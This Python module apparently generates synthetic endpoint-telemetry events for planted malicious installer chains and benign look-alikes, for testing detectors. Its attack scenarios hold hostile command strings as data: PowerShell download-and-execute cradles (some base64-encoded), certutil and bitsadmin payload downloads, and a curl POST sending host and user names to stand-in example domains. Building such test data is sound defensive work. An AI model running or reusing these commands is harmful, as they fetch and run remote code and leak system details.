"""The planted installer scenarios (T1546.016 style chains) and their
benign look-alikes, built as event dicts (rare, so speed does not matter
here).
"""

from __future__ import annotations

import random
from collections.abc import Callable
from typing import Any

from .catalogue import _TRANSMISSION, START_MS, _versioned_name
from .values import (
    _TAGS,
    _b64_ps,
    _callback_ip,
    _dev_path,
    _digest,
    _hex,
    _private_ip,
    _secs,
    _split,
)

SCENARIOS = ("msi_powershell", "pip_python_curl", "msi_silent_cmd")
LOOKALIKES = (
    "ssh_client",
    "aptitude_upgrade",
    "updater_msiexec",
    "msiexec_private_net",
    "apt_maintainer",
    "lookalike_event_names",
)


_SCENARIO_PLATFORMS: dict[str, tuple[str, ...]] = {
    "msi_powershell": ("Win",),
    "pip_python_curl": ("Lin", "Mac"),
    "msi_silent_cmd": ("Win",),
    "ssh_client": ("Win",),
    "aptitude_upgrade": ("Lin",),
    "updater_msiexec": ("Win",),
    "msiexec_private_net": ("Win",),
    "apt_maintainer": ("Lin",),
    "lookalike_event_names": ("Win",),
}

_EVIL_DOMAINS = (
    "update-check.example.net",
    "cdn.msi-telemetry.example.org",
    "files.invoice-portal.example.com",
    "hooks.pkg-stats.example.org",
    "static.fontpack.example.net",
)
_MSI_LURES = (
    "invoice_viewer_setup.msi",
    "ZoomPlugin_x64.msi",
    "AdobeFontPack.msi",
    "vpnclient-5.2.1.msi",
    "TeamsAddin.msi",
)
_PIP_PACKAGES = (
    "acme-telemetry",
    "requests-toolbelt2",
    "colourama",
    "py-utils-ext",
    "fastjson-lite",
)


class _Chain:
    """Builds the events of one planted instance on one host."""

    def __init__(self, rng: random.Random, host: dict, start_ms: int) -> None:
        self.rng = rng
        self.host = host
        self.t = start_ms
        self.platform = host["platform"]

    def tick(self, lo: int = 5, hi: int = 400) -> int:
        self.t += lo + int(self.rng.random() * (hi - lo))
        return self.t

    def upid(self) -> str:
        return str(self.rng.getrandbits(44))

    def common(self, simple: str) -> dict[str, Any]:
        host = self.host
        rng = self.rng
        versioned = _versioned_name(simple, self.platform)
        if not versioned:
            raise ValueError(f"{simple} does not exist on {self.platform}")
        x = rng.getrandbits(48)
        node = host["node"]
        ev: dict[str, Any] = {
            "event_simpleName": simple,
            "name": versioned,
            "aid": host["aid"],
            "aip": host["aip"],
            "cid": host["cid"],
            "event_platform": self.platform,
            "ConfigBuild": host["ConfigBuild"],
            "ConfigStateHash": host["ConfigStateHash"],
            "Entitlements": host["Entitlements"],
            "EffectiveTransmissionClass": _TRANSMISSION.get(simple, "3"),
            "timestamp": str(self.tick()),
            "id": f"{x >> 16:08x}-{x & 0xFFFF:04x}-11f0-{node[:4]}-{node[4:]}",
        }
        if host["ComputerName"]:
            ev["ComputerName"] = host["ComputerName"]
        if host["EventOrigin"] is not None:
            ev["EventOrigin"] = host["EventOrigin"]
        return ev

    def process(
        self,
        image: str,
        cmd: str,
        parent: str,
        user: int = 0,
        *,
        pid: str | None = None,
        ppid: str | None = None,
        simple: str = "ProcessRollup2",
        integrity: str = "8192",
    ) -> dict[str, Any]:
        host = self.host
        ev = self.common(simple)
        u = host["users"][min(user, len(host["users"]) - 1)]
        win = self.platform == "Win"
        dev = _dev_path(image, host["volume"]) if win else image
        fpath, fname = _split(dev, "\\" if win else "/")
        ev.update(
            {
                "ImageFileName": dev,
                "CommandLine": cmd,
                "ParentBaseFileName": parent,
                "FileName": fname,
                "FilePath": fpath,
                "UserName": u["UserName"],
                "TargetProcessId": pid or self.upid(),
                "ParentProcessId": ppid or self.upid(),
                "RawProcessId": str(4 * (1 + int(self.rng.random() * 16000))),
                "SHA256HashData": _digest(image.lower(), 32),
                "MD5HashData": _digest("md5:" + image.lower(), 16),
                "SHA1HashData": "0" * 40,
                "ProcessStartTime": _secs(int(ev["timestamp"]) - 2),
                "ProcessEndTime": "",
            }
        )
        if win:
            ev.update(
                {
                    "UserSid": u["UserSid"],
                    "IntegrityLevel": "16384" if u["UserName"] == "SYSTEM" else integrity,
                    "AuthenticationId": "999"
                    if u["UserName"] == "SYSTEM"
                    else str(100000 + int(self.rng.random() * 9000000)),
                    "TokenType": "1",
                    "SignInfoFlags": "8683538",
                    "Tags": _TAGS[0],
                }
            )
        else:
            ev.update({"UID": u["UID"], "GID": u["GID"], "RUID": u["UID"], "RGID": u["GID"]})
        return ev

    def network(
        self,
        ctx_pid: str,
        remote: str,
        port: str = "443",
        image: str | None = None,
        *,
        simple: str = "NetworkConnectIP4",
    ) -> dict[str, Any]:
        host = self.host
        ev = self.common(simple)
        eph = str((49152 if self.platform == "Win" else 32768) + int(self.rng.random() * 16000))
        inbound = simple == "NetworkReceiveAcceptIP4"
        ev.update(
            {
                "LocalAddressIP4": host["local_ip"],
                "LocalPort": port if inbound else eph,
                "RemoteAddressIP4": remote,
                "RemotePort": eph if inbound else port,
                "Protocol": "6",
                "ConnectionDirection": "1" if inbound else "0",
                "ConnectionFlags": "0",
                "ContextProcessId": ctx_pid,
                "ContextTimeStamp": _secs(int(ev["timestamp"]) - 1),
                "InContext": "1",
            }
        )
        if image is not None:
            ev["ImageFileName"] = (
                _dev_path(image, host["volume"]) if self.platform == "Win" else image
            )
        return ev

    def dns(self, ctx_pid: str, domain: str, base: str, answer: str) -> dict[str, Any]:
        ev = self.common("DnsRequest")
        ev.update(
            {
                "DomainName": domain,
                "RequestType": "1",
                "ContextProcessId": ctx_pid,
                "ContextBaseFileName": base,
                "ContextTimeStamp": _secs(int(ev["timestamp"]) - 1),
                "IP4Records": answer + ";",
                "FirstIP4Record": answer,
                "DnsResponseType": "1",
                "QueryStatus": "0",
            }
        )
        return ev

    def file_written(
        self, ctx_pid: str, target: str, simple: str = "GenericFileWritten"
    ) -> dict[str, Any]:
        ev = self.common(simple)
        if self.platform == "Win":
            target = _dev_path(target, self.host["volume"])
        ev.update(
            {
                "TargetFileName": target,
                "ContextProcessId": ctx_pid,
                "ContextTimeStamp": _secs(int(ev["timestamp"]) - 1),
                "Size": str(int(self.rng.random() * 4000) + 20),
                "IsOnNetwork": "0",
                "IsOnRemovableDisk": "0",
            }
        )
        return ev


_MSIEXEC = "C:\\Windows\\System32\\msiexec.exe"
_POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
_CMD = "C:\\Windows\\System32\\cmd.exe"


def _cradle(rng: random.Random, domain: str) -> str:
    path = rng.choice(("stage2.ps1", "update.ps1", "a.ps1", "cfg/init.ps1"))
    payload = rng.choice(("svchelper.exe", "msupdate.exe", "fontcache.exe"))
    style = rng.random()
    if style < 0.34:
        return (
            f"{_POWERSHELL} -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -Command "
            f"\"IEX (New-Object Net.WebClient).DownloadString('https://{domain}/{path}')\""
        )
    if style < 0.67:
        return (
            f'powershell.exe -nop -w hidden -c "Invoke-WebRequest -Uri https://{domain}/{payload} '
            f'-OutFile $env:TEMP\\{payload}; Start-Process $env:TEMP\\{payload}"'
        )
    script = (
        f"$u='https://{domain}/{payload}';$p=\"$env:TEMP\\{payload}\";"
        "(New-Object System.Net.WebClient).DownloadFile($u,$p);Start-Process -WindowStyle Hidden $p"
    )
    return f"powershell.exe -NoP -NonI -W Hidden -EncodedCommand {_b64_ps(script)}"


def _msi_client(c: _Chain, msi: str, args: str, parent: str, user: int = 0) -> dict[str, Any]:
    return c.process(
        _MSIEXEC,
        f'"C:\\Windows\\System32\\msiexec.exe" /i "{msi}"{args}',
        parent,
        user,
        integrity="12288",
    )


def _msi_service(c: _Chain) -> dict[str, Any]:
    return c.process(_MSIEXEC, "C:\\Windows\\system32\\msiexec.exe /V", "services.exe", 1)


def _msi_custom_action_server(c: _Chain, service_pid: str, user: int) -> dict[str, Any]:
    guid = _hex(c.rng, 128).upper()
    context = "E Global\\MSI0000" if user else "C"
    return c.process(
        _MSIEXEC,
        f"C:\\Windows\\System32\\MsiExec.exe -Embedding {guid} {context}",
        "msiexec.exe",
        user,
        ppid=service_pid,
    )


def _s_msi_powershell(c: _Chain) -> list[dict]:
    rng = c.rng
    home = c.host["users"][0]["home"]
    domain = rng.choice(_EVIL_DOMAINS)
    msi = f"{home}\\Downloads\\{rng.choice(_MSI_LURES)}"
    evs = [_msi_client(c, msi, "", "explorer.exe")]
    service = _msi_service(c)
    evs.append(service)
    deferred = 1 if rng.random() < 0.6 else 0
    ca = _msi_custom_action_server(c, service["TargetProcessId"], deferred)
    evs.append(ca)
    ps = c.process(
        _POWERSHELL, _cradle(rng, domain), "msiexec.exe", deferred, ppid=ca["TargetProcessId"]
    )
    evs.append(ps)
    server = _callback_ip(rng)
    evs.append(c.dns(ps["TargetProcessId"], domain, "powershell.exe", server))
    evs.append(c.network(ca["TargetProcessId"], _callback_ip(rng), "443", _MSIEXEC))
    evs.append(
        c.network(ps["TargetProcessId"], server, "443", _POWERSHELL if rng.random() < 0.5 else None)
    )
    return evs


def _s_msi_silent_cmd(c: _Chain) -> list[dict]:
    rng = c.rng
    msi = f"C:\\Users\\Public\\{rng.choice(('x.msi', 'setup.msi', 'custom_action_test.msi'))}"
    quiet = rng.choice((" /quiet", " /quiet /norestart", " /qn"))
    client = _msi_client(c, msi, quiet, rng.choice(("cmd.exe", "powershell.exe")))
    evs = [client]
    parent_pid = client["TargetProcessId"]
    if rng.random() < 0.5:
        service = _msi_service(c)
        evs.append(service)
        parent_pid = service["TargetProcessId"]
    out = "C:\\Users\\Public\\custom_action_test.txt"
    cmd = c.process(
        _CMD,
        f'"C:\\Windows\\system32\\cmd.exe" /c echo Custom action executed at %TIME% > "{out}"',
        "msiexec.exe",
        1,
        ppid=parent_pid,
    )
    evs.append(cmd)
    evs.append(c.file_written(cmd["TargetProcessId"], out))
    if rng.random() < 0.5:
        domain = rng.choice(_EVIL_DOMAINS)
        payload = rng.choice(("p.exe", "helper.dll", "update.exe"))
        if rng.random() < 0.5:
            image = "C:\\Windows\\System32\\certutil.exe"
            line = f"certutil.exe -urlcache -split -f https://{domain}/{payload} C:\\Windows\\Temp\\{payload}"
        else:
            image = "C:\\Windows\\System32\\bitsadmin.exe"
            line = (
                f'"C:\\Windows\\system32\\bitsadmin.exe" /transfer msiupd /download /priority high '
                f"https://{domain}/{payload} C:\\Users\\Public\\{payload}"
            )
        child = c.process(image, line, "msiexec.exe", 1, ppid=parent_pid)
        evs.append(child)
        evs.append(c.network(child["TargetProcessId"], _callback_ip(rng), "443", image))
    return evs


def _s_pip_python_curl(c: _Chain) -> list[dict]:
    rng = c.rng
    host = c.host
    user = 0 if rng.random() < 0.8 else 1
    home = host["users"][user]["home"]
    pkg = rng.choice(_PIP_PACKAGES)
    ver = f"{rng.randrange(1, 4)}.{rng.randrange(0, 12)}.{rng.randrange(0, 9)}"
    mac = c.platform == "Mac"
    shell = "zsh" if mac else "bash"
    pip_image = "/opt/homebrew/bin/pip3" if mac else "/usr/local/bin/pip3"
    py_image = "/opt/homebrew/bin/python3" if mac else "/usr/bin/python3"
    if rng.random() < 0.5:
        pip_cmd = f"{pip_image} install {pkg}=={ver}"
    else:
        pip_cmd = f"pip3 install --no-cache-dir {home}/Downloads/{pkg}-{ver}.tar.gz"
    pip = c.process(pip_image, pip_cmd, shell, user)
    tmp = f"/tmp/pip-install-{_hex(rng, 32)}/{pkg.replace('-', '_')}_{_hex(rng, 64)}"
    py_cmd = (
        f"{py_image} -u -c \"import io, os, sys, setuptools, tokenize; sys.argv[0] = '{tmp}/setup.py'; "
        f"__file__='{tmp}/setup.py';f = getattr(tokenize, 'open', open)(__file__) if os.path.exists(__file__) "
        "else io.StringIO('from setuptools import setup; setup()');code = f.read().replace('\\r\\n', '\\n');"
        "f.close();exec(compile(code, __file__, 'exec'))\" install --record "
        f"/tmp/pip-record-{_hex(rng, 32)}/install-record.txt --single-version-externally-managed --compile"
    )
    py = c.process(py_image, py_cmd, "pip3", user, ppid=pip["TargetProcessId"])
    domain = rng.choice(_EVIL_DOMAINS)
    name = host["hostname"]
    curl_cmd = (
        f"curl -fsS -X POST https://{domain}/i/{pkg}?v={ver} "
        f"-d host={name.replace(' ', '-')}&user={host['users'][user]['UserName']}&os={c.platform.lower()}"
    )
    curl = c.process("/usr/bin/curl", curl_cmd, "python3", user, ppid=py["TargetProcessId"])
    server = _callback_ip(rng)
    return [
        pip,
        py,
        curl,
        c.dns(curl["TargetProcessId"], domain, "curl", server),
        c.network(curl["TargetProcessId"], server, "443", "/usr/bin/curl"),
    ]


def _l_ssh_client(c: _Chain) -> list[dict]:
    rng = c.rng
    home = c.host["users"][0]["home"]
    target = _private_ip(rng)
    line = rng.choice(
        (
            f'"C:\\Windows\\System32\\OpenSSH\\ssh.exe" -i {home}\\.ssh\\id_ed25519 admin@{target}',
            f"ssh.exe -L 8443:localhost:443 deploy@{target}",
        )
    )
    ssh = c.process(
        "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
        line,
        rng.choice(("powershell.exe", "pwsh.exe", "cmd.exe")),
    )
    net = c.network(ssh["TargetProcessId"], target, "22", "C:\\Windows\\System32\\OpenSSH\\ssh.exe")
    return [ssh, net]


def _l_aptitude_upgrade(c: _Chain) -> list[dict]:
    rng = c.rng
    apt = c.process("/usr/bin/aptitude", "aptitude safe-upgrade -y", "bash", 1)
    evs = [apt]
    if rng.random() < 0.5:
        evs.append(
            c.process(
                "/usr/bin/dash",
                "/bin/sh -c test -x /usr/lib/needrestart/apt-pinvoke && /usr/lib/needrestart/apt-pinvoke -m u || true",
                "aptitude",
                1,
                ppid=apt["TargetProcessId"],
            )
        )
    evs.append(
        c.process(
            "/usr/bin/dpkg",
            "/usr/bin/dpkg --force-confdef --force-confold --status-fd 44 --configure --pending",
            "aptitude",
            1,
            ppid=apt["TargetProcessId"],
        )
    )
    return evs


def _l_updater_msiexec(c: _Chain) -> list[dict]:
    rng = c.rng
    home = c.host["users"][0]["home"]
    which = rng.random()
    if which < 0.34:
        parent, msi, extra = (
            "Zoom.exe",
            f"{home}\\AppData\\Roaming\\Zoom\\bin\\ZoomInstallerFull.msi",
            " /quiet /norestart ZoomAutoUpdate=true",
        )
    elif which < 0.67:
        parent, msi, extra = (
            "slack.exe",
            "C:\\ProgramData\\Slack\\slack-standalone-4.41.105.0.msi",
            " /qn ALLUSERS=1",
        )
    else:
        parent, msi, extra = (
            "GoogleUpdate.exe",
            "C:\\Program Files (x86)\\Google\\Update\\Install\\{4C2A7E1B-9D3F-4E8A-B6C5-0F1D2E3A4B5C}\\GoogleChromeStandaloneEnterprise64.msi",
            " /qn REBOOT=ReallySuppress",
        )
    client = _msi_client(c, msi, extra, parent, 1 if parent == "GoogleUpdate.exe" else 0)
    evs = [client]
    if rng.random() < 0.3:
        evs.append(
            c.process(
                _POWERSHELL,
                f'{_POWERSHELL} -NoProfile -ExecutionPolicy Bypass -File "C:\\Program Files\\{parent[:-4]}\\cleanup.ps1"',
                "msiexec.exe",
                1,
                ppid=client["TargetProcessId"],
            )
        )
    return evs


def _l_msiexec_private_net(c: _Chain) -> list[dict]:
    rng = c.rng
    share = rng.choice(
        ("\\\\fs01.corp.local\\deploy\\agent.msi", "\\\\10.20.0.5\\sccm$\\pkg\\CorpVPN.msi")
    )
    client = c.process(
        _MSIEXEC,
        f'"C:\\Windows\\System32\\msiexec.exe" /i "{share}" /qn /l*v C:\\Windows\\Temp\\agent_install.log',
        rng.choice(("CcmExec.exe", "cmd.exe")),
        1,
    )
    evs = [client]
    for _ in range(1 + int(rng.random() * 2)):
        evs.append(
            c.network(
                client["TargetProcessId"],
                _private_ip(rng),
                rng.choice(("445", "80", "443")),
                _MSIEXEC,
            )
        )
    return evs


def _l_apt_maintainer(c: _Chain) -> list[dict]:
    rng = c.rng
    pkg, ver = rng.choice(
        (
            ("nginx", "1.24.0-2ubuntu7"),
            ("openssh-server", "1:9.6p1-3ubuntu13"),
            ("tzdata", "2024a-3ubuntu1"),
            ("libssl3t64", "3.0.13-0ubuntu3"),
        )
    )
    front = rng.choice(("apt", "apt-get"))
    apt = c.process(f"/usr/bin/{front}", f"{front} install -y {pkg}", "sudo", 1)
    dpkg = c.process(
        "/usr/bin/dpkg",
        f"/usr/bin/dpkg --status-fd 23 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/{pkg}_{ver}_amd64.deb",
        front,
        1,
        ppid=apt["TargetProcessId"],
    )
    script = c.process(
        "/usr/bin/dash",
        f"/bin/sh /var/lib/dpkg/info/{pkg}.postinst configure {ver}",
        "dpkg",
        1,
        ppid=dpkg["TargetProcessId"],
    )
    return [apt, dpkg, script]


def _l_lookalike_event_names(c: _Chain) -> list[dict]:
    rng = c.rng
    domain = rng.choice(_EVIL_DOMAINS)
    msi = c.process(
        _MSIEXEC,
        "C:\\Windows\\System32\\MsiExec.exe -Embedding 7F3A9C0D1E2B4A5C6D7E8F9012345678 C",
        "msiexec.exe",
        simple="SyntheticProcessRollup2",
    )
    ps = c.process(
        _POWERSHELL,
        _cradle(rng, domain),
        "msiexec.exe",
        simple="SyntheticProcessRollup2",
        ppid=msi["TargetProcessId"],
    )
    stats = c.common("ProcessRollup2Stats")
    stats.update(
        {
            "ImageFileName": _dev_path(_POWERSHELL, c.host["volume"]),
            "CommandLine": ps["CommandLine"],
            "ParentBaseFileName": "msiexec.exe",
            "FileName": "powershell.exe",
            "SHA256HashData": ps["SHA256HashData"],
            "ProcessCount": "3",
        }
    )
    accept = c.network(
        msi["TargetProcessId"],
        _callback_ip(rng),
        "8080",
        _MSIEXEC,
        simple="NetworkReceiveAcceptIP4",
    )
    return [msi, ps, stats, accept]


_SCENARIO_BUILDERS: dict[str, Callable[[_Chain], list[dict]]] = {
    "msi_powershell": _s_msi_powershell,
    "pip_python_curl": _s_pip_python_curl,
    "msi_silent_cmd": _s_msi_silent_cmd,
    "ssh_client": _l_ssh_client,
    "aptitude_upgrade": _l_aptitude_upgrade,
    "updater_msiexec": _l_updater_msiexec,
    "msiexec_private_net": _l_msiexec_private_net,
    "apt_maintainer": _l_apt_maintainer,
    "lookalike_event_names": _l_lookalike_event_names,
}


def scenario_events(
    name: str, rng: random.Random, host: dict, *, start_ms: int = START_MS
) -> list[dict]:
    """The events of one instance of a planted chain, as dicts in emission
    order (all values strings except ``EventOrigin``).

    ``name`` is one of :data:`SCENARIOS` or :data:`LOOKALIKES`; ``host`` a
    dict from :func:`make_hosts` of a fitting platform (Windows for the
    ``msi*``, ``ssh_client``, ``updater_msiexec`` and
    ``lookalike_event_names`` chains, Linux for the apt ones, Linux or macOS
    for ``pip_python_curl``).  Timestamps start just after ``start_ms``."""
    try:
        build = _SCENARIO_BUILDERS[name]
    except KeyError:
        raise ValueError(f"unknown scenario {name!r}") from None
    if host["platform"] not in _SCENARIO_PLATFORMS[name]:
        raise ValueError(f"scenario {name!r} needs a {'/'.join(_SCENARIO_PLATFORMS[name])} host")
    return build(_Chain(rng, host, start_ms))
